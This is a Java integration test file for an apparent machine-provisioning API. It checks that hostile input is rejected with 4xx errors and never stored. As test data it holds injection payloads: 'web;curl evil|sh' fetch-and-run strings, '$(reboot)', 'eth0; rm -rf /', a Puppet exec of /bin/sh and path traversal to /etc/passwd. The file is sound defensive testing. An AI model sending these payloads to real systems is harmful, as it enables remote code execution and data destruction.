package org.metalflow.api;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.metalflow.IntegrationTest;
import org.metalflow.LabMachines;
import org.metalflow.RawHttp;
import org.springframework.http.HttpMethod;
import org.springframework.http.MediaType;

/**
 * Bad and hostile input gets a clear 4xx naming the field, and nothing is written: malformed JSON, shell and
 * template injection in host names, domains and Puppet/Chef names (which end up in install files, DNS and
 * configuration management), bad MACs from the network, and path traversal towards the install files. Oversized
 * bodies: {@code security.RequestLimitFiltersTest}.
 */
class HostileInputTest extends IntegrationTest {

    /** Lab BMC 142 belongs to this test. */
    private static final int LAB_INDEX = 142;

    @Test
    void malformedJsonIsA400ProblemAndCreatesNothing() {
        for (String body : List.of("{\"name\":\"hostile-json\",", "[]", "{\"name\":\"hostile-json\",\"bmc\":\"x\"}", "\u0000")) {
            JsonNode problem = send(HttpMethod.POST, "/api/v1/machines", body);
            assertThat(problem.get("status").asInt()).as(body).isEqualTo(400);
            assertThat(problem.get("type").asText()).endsWith("/invalid-request");
        }
        assertThat(machineNames()).doesNotContain("hostile-json");
    }

    @Test
    void injectionInAMachineNameIsRefused() {
        for (String name : List.of("web01;reboot", "$(reboot)", "web01\nroot", "{{token}}", "../../etc", "WEB01",
                "-web", "a".repeat(64))) {
            JsonNode problem = send(HttpMethod.POST, "/api/v1/machines", """
                    {"name":%s,"bmc":{"address":"https://127.0.0.1:1","username":"u","password":"p"}}"""
                    .formatted(quote(name)));
            assertThat(problem.get("status").asInt()).as(name).isEqualTo(400);
            assertThat(problem.get("errors").findValuesAsText("field")).as(name).contains("name");
        }
        assertThat(machineNames()).noneMatch(n -> n.contains("reboot") || n.contains("{{") || n.contains(".."));
    }

    @Test
    void aHostileDeployHostNameIsRefusedBeforeAnyAddressOrRecordIsTaken() {
        UUID id = new LabMachines(api()).available(LAB_INDEX);
        for (String hostname : List.of("web;curl evil|sh", "web\nd-i preseed/late_command", "{{installToken}}",
                "web.example.com", "Web", "")) {
            JsonNode problem = send(HttpMethod.POST, "/api/v1/machines/" + id + "/actions/deploy",
                    "{\"hostname\":%s}".formatted(quote(hostname)));
            assertThat(problem.get("status").asInt()).as(hostname).isEqualTo(400);
            assertThat(problem.get("errors").findValuesAsText("field")).as(hostname).containsExactly("hostname");
        }
        JsonNode machine = api().get().uri("/api/v1/machines/{id}", id).retrieve().body(JsonNode.class);
        assertThat(machine.get("state").asText()).isEqualTo("available");
        assertThat(machine.path("process").isMissingNode()).as("no process started: %s", machine).isTrue();
        assertThat(api().get().uri("/api/v1/allocations?machineId={id}", id).retrieve().body(JsonNode.class)
                .get("items")).as("no address allocated").isEmpty();
    }

    @Test
    void injectionInNetworkAndConfigurationManagementNamesIsRefused() {
        JsonNode network = send(HttpMethod.POST, "/api/v1/networks", """
                {"name":"hostile","cidr":"10.250.0.0/24","gateway":"10.250.0.1","dnsServers":["10.250.0.2"],
                 "domain":"lab.example;curl evil|sh"}""");
        assertThat(network.get("status").asInt()).isEqualTo(400);
        assertThat(network.get("errors").findValuesAsText("field")).contains("domain");
        assertThat(status("/api/v1/networks/hostile"))
                .as("no network stored").isEqualTo(404);

        JsonNode puppetClass = send(HttpMethod.PUT, "/api/v1/roles/hostile", """
                {"name":"hostile","puppetClasses":{"nginx; exec { 'x': command => '/bin/sh' }":{}}}""");
        assertThat(puppetClass.get("status").asInt()).isEqualTo(400);
        JsonNode runList = send(HttpMethod.PUT, "/api/v1/roles/hostile", """
                {"name":"hostile","chefRunList":["recipe[nginx]\\nrecipe[evil]"]}""");
        assertThat(runList.get("status").asInt()).isEqualTo(400);
        assertThat(status("/api/v1/roles/hostile"))
                .as("no role stored").isEqualTo(404);
    }

    @Test
    void badMacsFromTheNetworkAreRefusedAndRecordNothing() {
        for (String mac : List.of("zz:00:00:00:00:01", "02:00:00:00:00:01;reboot", "02:00:00:00:00")) {
            RawHttp.Response script = RawHttp.get("127.0.0.1", port, "/api/v1/boot/ipxe/mac/" + mac.replace(";", "%3B"));
            assertThat(script.status()).as(mac).isEqualTo(400);
            assertThat(script.body()).contains("mac");
        }
        JsonNode report = send(HttpMethod.POST, "/api/v1/discovery", """
                {"nics":[{"name":"eth0","mac":"02:00:00:00:00:zz"}],"manufacturer":"Hostile"}""");
        assertThat(report.get("status").asInt()).isEqualTo(400);
        assertThat(report.get("errors").findValuesAsText("field")).containsExactly("nics[0].mac");
        JsonNode name = send(HttpMethod.POST, "/api/v1/discovery", """
                {"nics":[{"name":"eth0; rm -rf /","mac":"02:00:00:00:de:01"}]}""");
        assertThat(name.get("errors").findValuesAsText("field")).containsExactly("nics[0].name");
        assertThat(machineNames()).noneMatch(n -> n.contains("de01") || n.contains("de-01"));
    }

    @Test
    void pathTraversalTowardsTheInstallFilesFindsNothing() {
        String token = "A".repeat(43);
        for (String path : List.of("/api/v1/boot/install/" + token + "/..%2F..%2F..%2Fetc%2Fpasswd",
                "/api/v1/boot/install/" + token + "/%2e%2e/%2e%2e/etc/passwd",
                "/api/v1/boot/install/" + token + "/../../../../etc/passwd",
                "/api/v1/boot/install/..%2F..%2Fetc/preseed.cfg",
                "/api/v1/boot/install/" + token + "/preseed.cfg%00.txt")) {
            RawHttp.Response response = RawHttp.get("127.0.0.1", port, path);
            assertThat(response.status()).as(path).isBetween(400, 499);
            assertThat(response.body()).as(path).doesNotContain("root:");
        }
    }

    private JsonNode send(HttpMethod method, String path, String body) {
        return api().method(method).uri(path).contentType(MediaType.APPLICATION_JSON).body(body)
                .exchange((req, res) -> new com.fasterxml.jackson.databind.ObjectMapper().readTree(res.getBody()));
    }

    private int status(String path) {
        Integer status = api().get().uri(path).exchange((req, res) -> res.getStatusCode().value());
        return status;
    }

    private List<String> machineNames() {
        return api().get().uri("/api/v1/machines?size=500").retrieve().body(JsonNode.class).get("items")
                .findValuesAsText("name");
    }

    private static String quote(String text) {
        return new com.fasterxml.jackson.databind.ObjectMapper().valueToTree(text).toString();
    }
}
